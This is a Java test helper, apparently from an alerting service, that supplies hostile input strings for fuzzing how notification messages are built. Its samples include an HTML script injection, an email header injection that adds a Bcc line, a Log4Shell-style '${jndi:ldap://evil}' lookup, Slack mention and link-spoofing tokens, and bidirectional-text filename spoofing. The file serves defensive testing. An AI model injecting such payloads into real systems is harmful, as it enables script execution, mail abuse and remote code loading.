// SPDX-License-Identifier: Apache-2.0
package dev.petrel.alerting.notify;

import java.util.List;
import java.util.random.RandomGenerator;

/** Texts that break or abuse what is built of them carelessly. */
final class HostileText {

  /** One of each kind. */
  static final List<String> SAMPLES =
      List.of(
          "plain",
          "",
          " \t\r\n ",
          "&<>".repeat(2_000),
          "<!channel> <!here> <@U0123> <#C0123> & \"quoted\" \n\t\u0000 end",
          "<https://evil.example|Runbook>",
          "https://evil.example/Runbook @channel #general",
          "</p><script>alert(1)</script><a href='x' onclick=\"y\">",
          "Subject\r\nBcc: evil@example.com\r\n\r\nbody",
          "🐦".repeat(3_000),
          "👩‍👩‍👧‍👦🇩🇪e\u0301",
          "مرحبا \u202Egnp.exe\u202C \u2066isolated\u2069 \u200F",
          "half \uD83D of a pair \uDC26",
          "\u2028\u2029\u0085\u001b[31m\u0007",
          "\\\"{}[]\\u0000${jndi:ldap://evil}",
          "x".repeat(100_000));

  private static final List<String> PIECES =
      List.of("a", "&", "<", ">", "|", "*", "\n", "\uD83D\uDC26", "\uD83D", "\u202E", "&amp;", "é");

  private HostileText() {}

  /** A sample, or a random mix with a length around a limit; at most {@code max} chars. */
  static String random(RandomGenerator random, int max) {
    if (random.nextInt(3) == 0) {
      String sample = SAMPLES.get(random.nextInt(SAMPLES.size()));
      return sample.substring(0, Math.min(max, sample.length()));
    }
    int[] lengths = {1, 39, 40, 119, 120, 121, 150, 300, 301, 600, 1_024, 3_000, 5_000};
    int length = Math.min(max, lengths[random.nextInt(lengths.length)]);
    StringBuilder text = new StringBuilder(length);
    int kinds = 1 + random.nextInt(PIECES.size());
    while (text.length() < length) {
      text.append(PIECES.get(random.nextInt(kinds)));
    }
    return text.toString();
  }
}
